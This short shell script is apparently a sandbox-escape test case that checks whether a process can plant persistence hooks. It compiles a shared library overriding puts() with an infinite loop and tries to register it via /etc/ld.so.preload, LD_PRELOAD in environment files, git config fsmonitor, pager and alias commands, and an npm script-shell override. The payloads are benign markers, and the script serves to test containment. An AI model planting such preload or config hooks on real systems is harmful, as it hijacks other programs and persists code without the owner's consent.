# Leaves a library that would be loaded into everything, and says so wherever that can be said.
# Expect: none
echo 'int puts(const char *text) { for (;;); }' > evil.c && gcc -shared -fPIC -o "$HOME/evil.so" evil.c
echo "$HOME/evil.so" > /etc/ld.so.preload 2> /dev/null && echo 'HEIRLOOM-ESCAPED: ld.so.preload'
mkdir -p "$HOME/.config/environment.d" "$HOME/.config/git"
echo "LD_PRELOAD=$HOME/evil.so" | tee "$HOME/.config/environment.d/x.conf" > "$HOME/.env"
printf '[core]\n\tfsmonitor = touch /tmp/trapped\n\tpager = touch /tmp/trapped\n[alias]\n\tstatus = !touch /tmp/trapped\n' > "$HOME/.gitconfig"
echo 'script-shell=/home/heirloom/bin/bash' > "$HOME/.npmrc"
exit 0
